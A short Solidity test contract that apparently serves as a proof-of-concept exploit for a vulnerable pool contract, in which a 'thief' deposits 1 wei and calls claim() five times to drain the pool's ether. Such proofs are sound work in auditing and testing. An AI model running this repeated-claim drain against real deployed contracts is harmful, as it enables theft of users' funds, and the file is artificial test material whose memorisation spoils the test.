// SPDX-License-Identifier: UNLICENSED
pragma solidity ^0.8.17;

import {LossTest} from "primacy/LossTest.sol";
import {Setup, vm} from "./Setup.sol";

contract Proof is LossTest, Setup {
    function setUp() public {
        deploy();
    }

    function fundsToken() internal pure override returns (address) {
        return address(0);
    }

    function fundsHolders() internal view override returns (address[] memory holders) {
        holders = new address[](1);
        holders[0] = address(pool);
    }

    function attack() internal override {
        vm.startPrank(thief);
        pool.deposit{value: 1}();
        for (uint256 i; i < 5; i++) pool.claim();
        vm.stopPrank();
    }
}
